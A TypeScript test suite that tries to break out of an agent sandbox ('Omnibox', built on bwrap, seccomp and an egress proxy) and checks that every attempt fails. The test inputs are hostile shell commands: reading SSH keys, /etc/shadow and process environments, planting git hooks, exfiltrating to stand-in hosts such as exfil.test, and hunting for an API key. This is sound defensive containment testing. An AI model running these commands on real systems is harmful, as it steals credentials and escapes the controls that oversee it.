import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { AgentSpec, type ItemBody, type SessionStartSpec } from '@yoke/protocol';
import { DENY_REASON_HEADER } from '@yoke/omnibox';
import { runnerSandboxFactory, type SessionSandbox } from '../../apps/runner/src/sandbox';
import { CLI_MAIN, tempDir } from '../support/processes';

/**
 * The escape suite: a harness-shaped process inside Omnibox (real bwrap + seccomp, the runner's own sandbox
 * factory and egress proxy) tries every way out it should not have. Each attempt must fail, and the test records
 * how it failed (printed at the end). Every server here listens on this machine's loopback; nothing leaves it.
 */

const REAL_KEY = 'sk-ant-REAL-KEY-0123456789abcdef';
const RUNNER_SECRET = 'runner-env-secret-7d3f9a1c';

interface Upstream {
  server: Server;
  port: number;
  seen: { url: string; headers: IncomingHttpHeaders }[];
}

async function upstream(): Promise<Upstream> {
  const seen: Upstream['seen'] = [];
  const server = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    req.resume();
    res.setHeader('content-type', 'application/json');
    res.end(JSON.stringify({ ok: true }));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port, seen };
}

const report: { attempt: string; outcome: string }[] = [];

describe('Omnibox escape suite (real bwrap + seccomp + egress proxy)', () => {
  let model: Upstream;
  let other: Upstream;
  let tcp: TcpServer;
  let tcpPort: number;
  let tcpConnections = 0;
  let hostHome: string;
  let outside: string;
  let workspace: string;
  let harnessHome: string;
  let box: SessionSandbox;
  const items: ItemBody[] = [];
  const savedHome = process.env.HOME;

  beforeAll(async () => {
    model = await upstream();
    other = await upstream();
    tcp = createTcpServer((s) => {
      tcpConnections += 1;
      s.end('you reached the host\n');
    });
    await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
    tcpPort = (tcp.address() as AddressInfo).port;

    // A host HOME with a private key, as the runner's user would have.
    hostHome = tempDir('yoke-escape-home');
    mkdirSync(join(hostHome, '.ssh'), { mode: 0o700 });
    writeFileSync(join(hostHome, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nFAKE-HOST-KEY\n', {
      mode: 0o600,
    });
    process.env.HOME = hostHome;
    process.env.YOKE_ESCAPE_TEST_SECRET = RUNNER_SECRET;
    outside = tempDir('yoke-escape-outside');
    workspace = tempDir('yoke-escape-ws');
    harnessHome = tempDir('yoke-escape-harness-home');
    execFileSync('git', ['init', '-q', workspace]);

    const agent = AgentSpec.parse({
      name: 'escape',
      prompt: 'try to get out',
      // allowed, but no secret is approved for it (and it is never really contacted: refused before any lookup)
      sandbox: { network: { allow: ['docs.allowed.test'] } },
    });
    const spec = {
      sessionId: 'escape',
      agent,
      harness: 'yoke',
      model: null,
      workspace,
      policies: [],
    } as unknown as SessionStartSpec;
    const factory = runnerSandboxFactory({
      provider: { anthropicBaseUrl: `http://127.0.0.1:${model.port}`, anthropicApiKey: REAL_KEY },
      mode: 'omnibox',
    });
    box = await factory({ spec, workspace, record: (item) => items.push(item) });
  });

  afterAll(async () => {
    await box?.close();
    model?.server.close();
    other?.server.close();
    tcp?.close();
    process.env.HOME = savedHome;
    delete process.env.YOKE_ESCAPE_TEST_SECRET;
    process.stdout.write(
      `\nOmnibox escape suite — every attempt failed:\n${report.map((r) => `  ✗ ${r.attempt}: ${r.outcome}`).join('\n')}\n`,
    );
  });

  /** Runs `sh -c script` the way a harness runs (the runner's launcher, a harness-shaped environment). */
  function inside(script: string): Promise<{ code: number | null; out: string }> {
    const env: Record<string, string> = {
      // What a careless adapter would pass: the runner's whole environment. The launcher must scrub it.
      ...(Object.fromEntries(Object.entries(process.env).filter(([, v]) => v !== undefined)) as Record<string, string>),
      ANTHROPIC_BASE_URL: box.provider.anthropicBaseUrl ?? '',
      ANTHROPIC_API_KEY: box.provider.anthropicApiKey ?? '',
    };
    const child = box.launch('/bin/sh', ['-c', script], { cwd: workspace, env, home: harnessHome });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
    child.stdin.end();
    return new Promise((resolve) => child.on('close', (code) => resolve({ code, out: out.trim() })));
  }

  const note = (attempt: string, outcome: string): void => {
    report.push({ attempt, outcome: outcome.replace(/\s+/g, ' ').slice(0, 160) });
  };

  it('the sandbox works at all (a control: a command runs and can write its workspace)', async () => {
    const r = await inside('echo hi > ok.txt && cat ok.txt && id -u && hostname');
    expect(r.code).toBe(0);
    expect(r.out).toBe('hi\n1000\nomnibox');
    expect(readFileSync(join(workspace, 'ok.txt'), 'utf8')).toBe('hi\n');
  });

  it('cannot read ~/.ssh/id_rsa of the host (neither through $HOME nor by its host path)', async () => {
    const r = await inside(`cat "$HOME/.ssh/id_rsa"; cat ${hostHome}/.ssh/id_rsa; echo "HOME=$HOME"`);
    expect(r.out).not.toContain('FAKE-HOST-KEY');
    expect(r.out).toMatch(/No such file or directory/);
    expect(r.out).not.toContain(`HOME=${hostHome}`);
    note('read ~/.ssh/id_rsa', r.out.split('\n').slice(0, 2).join(' | '));
  });

  it('cannot read /etc/shadow', async () => {
    const r = await inside('cat /etc/shadow; ls /etc');
    expect(r.out).toMatch(/cat: \/etc\/shadow: No such file or directory/);
    expect(r.out).not.toMatch(/root:[^x]/);
    note('read /etc/shadow', r.out.split('\n')[0]);
  });

  it('cannot write outside the workspace (no file appears on the host)', async () => {
    const r = await inside(
      `mkdir -p ${outside} && echo pwned > ${outside}/escape.txt; echo pwned > /usr/escape.txt; ` +
        `echo pwned > ${join(workspace, '..')}/escape-sibling.txt; echo done`,
    );
    expect(existsSync(join(outside, 'escape.txt'))).toBe(false);
    expect(existsSync(join(workspace, '..', 'escape-sibling.txt'))).toBe(false);
    expect(existsSync('/usr/escape.txt')).toBe(false);
    expect(r.out).toMatch(/Read-only file system/);
    note('write outside the workspace', `${r.out.split('\n')[0]}; nothing on the host (the /tmp inside is a tmpfs)`);
  });

  it('cannot write .git/hooks/pre-commit or .git/config', async () => {
    const before = readFileSync(join(workspace, '.git', 'config'), 'utf8');
    const r = await inside(
      'printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-commit; echo "[core]\\nhooksPath=/tmp" >> .git/config; ' +
        'git config core.fsmonitor "touch /tmp/x"; echo done',
    );
    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(workspace, '.git', 'config'), 'utf8')).toBe(before);
    expect(r.out).toMatch(/Read-only file system/);
    note('write .git/hooks/pre-commit and .git/config', r.out.split('\n').slice(0, 2).join(' | '));
  });

  it("cannot see a secret from the runner's environment", async () => {
    const r = await inside('env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"; echo end');
    expect(r.out).not.toContain(RUNNER_SECRET);
    expect(r.out).not.toContain(hostHome);
    note("see the runner's environment", 'YOKE_ESCAPE_TEST_SECRET absent from env and every /proc/*/environ');
  });

  it('cannot open a TCP connection to a server on the host loopback', async () => {
    const before = tcpConnections;
    const probe = (host: string): string =>
      `require('net').connect(${tcpPort}, '${host}').on('connect',()=>{console.log('CONNECTED ${host}');process.exit(0)})` +
      `.on('error',e=>{console.log('${host}: '+e.code);process.exit(0)})`;
    const r = await inside(
      `node -e "${probe('127.0.0.1')}"; node -e "${probe('host.yoke.internal')}"; ` +
        `curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:${tcpPort}/ 2>&1; echo`,
    );
    expect(r.out).not.toContain('CONNECTED');
    expect(r.out).toContain('127.0.0.1: ECONNREFUSED');
    expect(r.out).toMatch(/host\.yoke\.internal: (ENOTFOUND|EAI_AGAIN)/);
    expect(tcpConnections).toBe(before);
    note('TCP to a host loopback server', r.out.split('\n').slice(0, 2).join(' | '));
  });

  it('cannot reach a host that is not allowed through the proxy: 403 with a reason, recorded as an item', async () => {
    items.length = 0;
    const r = await inside(
      `curl -sS -o /dev/null -D - http://not-allowed.test:${other.port}/exfil; ` +
        `node -e "fetch('http://exfil.test:${other.port}/x').then(r=>console.log('fetch',r.status),e=>console.log('fetch refused:',e.cause.cause.message))"`,
    );
    expect(r.out).toMatch(/HTTP\/1\.1 403/);
    expect(r.out).toMatch(new RegExp(`${DENY_REASON_HEADER}: host_not_allowed`, 'i'));
    // undici tunnels even plain http through CONNECT: the 403 comes back as a refused tunnel
    expect(r.out).toMatch(/fetch refused: Proxy response \(403\)/);
    expect(other.seen).toEqual([]);
    expect(items).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          type: 'egress',
          decision: 'denied',
          host: 'not-allowed.test',
          code: 'host_not_allowed',
        }),
        expect.objectContaining({ type: 'egress', decision: 'denied', method: 'CONNECT', host: 'exfil.test' }),
      ]),
    );
    note('reach a non-allowed host via the proxy', `403 ${r.out.match(/x-yoke-deny-reason: [^\n]*/i)?.[0] ?? ''}`);
  });

  it('cannot ptrace another process', async () => {
    const r = await inside('sleep 30 & strace -p $! -e trace=none 2>&1 | head -2; strace true 2>&1 | head -1; kill $!');
    expect(r.out).toMatch(/Operation not permitted/);
    expect(r.out).not.toMatch(/Process \d+ attached/);
    note('ptrace', r.out.split('\n')[0]);
  });

  it('cannot unshare or mount', async () => {
    const r = await inside(
      'unshare -r true 2>&1; unshare -n true 2>&1; mount -t tmpfs none /mnt 2>&1; mkdir -p d; mount --bind / d 2>&1; echo end',
    );
    expect(
      r.out.match(/Operation not permitted|must be superuser|permission denied/gi)?.length ?? 0,
    ).toBeGreaterThanOrEqual(3);
    note('unshare / mount', r.out.split('\n').slice(0, 3).join(' | '));
  });

  it('cannot create an AF_UNIX socket', async () => {
    const r = await inside(
      `node -e "require('net').createServer().listen('/tmp/s',()=>console.log('LISTENING')).on('error',e=>console.log('node:',e.code))"; ` +
        `python3 -c "import socket; socket.socket(socket.AF_UNIX)" 2>&1 | tail -1`,
    );
    expect(r.out).not.toContain('LISTENING');
    expect(r.out).toContain('node: EPERM');
    expect(r.out).toMatch(/PermissionError|Operation not permitted/);
    note('create an AF_UNIX socket', r.out.replace(/\n/g, ' | '));
  });

  it('cannot find the real API key anywhere inside, while the upstream receives it on an allowed request', async () => {
    const r = await inside(
      'echo "key=$ANTHROPIC_API_KEY"; ' +
        `curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" "$ANTHROPIC_BASE_URL/v1/messages" -d '{}'; echo; ` +
        // the key to look for travels base64-encoded and reaches grep on stdin, so no command line holds it
        `K=$(echo ${Buffer.from(REAL_KEY).toString('base64')} | base64 -d); ` +
        `echo "$K" | grep -rlaF -f - /proc/[0-9]*/environ /proc/[0-9]*/cmdline /run /tmp /home "$HOME" . /etc /work 2>/dev/null | head -3; ` +
        `env | grep -c "$(echo ${Buffer.from(REAL_KEY.slice(7)).toString('base64')} | base64 -d)"; echo end`,
    );
    expect(r.out).toMatch(/key=yoke-secret-anthropic-[0-9a-f]{24}/);
    expect(r.out).toContain('{"ok":true}');
    expect(r.out).not.toContain(REAL_KEY);
    expect(r.out).toMatch(/^0\nend$/m);
    const got = model.seen.find((s) => s.url === '/v1/messages');
    expect(got?.headers['x-api-key']).toBe(REAL_KEY);
    // and the placeholder, sent anywhere else, is refused
    const elsewhere = await inside(
      `curl -sS -o /dev/null -w "%{http_code}" -H "x-api-key: $ANTHROPIC_API_KEY" http://not-allowed.test:${other.port}/`,
    );
    expect(elsewhere.out).toBe('403');
    // over https too: the proxy opens the TLS (the sandbox trusts the runner CA) and refuses the placeholder
    const tls = await inside(
      `curl -sS -o /dev/null -w "%{http_code}" -H "authorization: Bearer $ANTHROPIC_API_KEY" https://docs.allowed.test/`,
    );
    expect(tls.out).toBe('403');
    expect(items).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ type: 'egress', host: 'docs.allowed.test', code: 'secret_not_allowed_for_host' }),
        // The model call the key went to is recorded with the credential's name, never its value.
        expect.objectContaining({ type: 'egress', decision: 'allowed', credentials: ['anthropic'] }),
      ]),
    );
    note('find the real API key inside', 'only the placeholder inside; the local upstream received the real key');
  });
});

describe('yoke sandbox check / run (the built CLI)', () => {
  const cli = (args: string[], env: NodeJS.ProcessEnv = process.env, cwd?: string) => {
    const r = spawnSync(process.execPath, [CLI_MAIN, ...args], { env, cwd, encoding: 'utf8', timeout: 60_000 });
    return { code: r.status, out: r.stdout, err: r.stderr };
  };

  it('check reports every part working here, and says how to fix a missing bwrap', () => {
    const ok = cli(['sandbox', 'check', '--json']);
    expect(ok.code).toBe(0);
    const report = JSON.parse(ok.out) as { ok: boolean; checks: { name: string; ok: boolean }[] };
    expect(report.ok).toBe(true);
    expect(report.checks.map((c) => c.name)).toEqual(['platform', 'bwrap', 'namespaces', 'seccomp', 'proxy']);
    const missing = cli(['sandbox', 'check'], { ...process.env, PATH: '/nonexistent' });
    expect(missing.code).toBe(1);
    expect(missing.out).toMatch(/FAIL bwrap .*\n.*fix: Install bubblewrap/);
  });

  it('run executes a command inside: its workspace writable, the host hidden, egress refused', () => {
    const ws = tempDir('yoke-sandbox-run');
    const script =
      'echo in > f.txt; id -u; cat /etc/shadow; curl -s -o /dev/null -w "%{http_code}\\n" http://blocked.test/; exit 7';
    const r = cli(['sandbox', 'run', '--', 'sh', '-c', script], process.env, ws);
    expect(r.code).toBe(7);
    expect(readFileSync(join(ws, 'f.txt'), 'utf8')).toBe('in\n');
    expect(r.out).toBe('1000\n403\n');
    expect(r.err).toMatch(/No such file or directory/);
    expect(r.err).toMatch(/egress denied: GET blocked\.test:80 \(host_not_allowed/);
  });
});
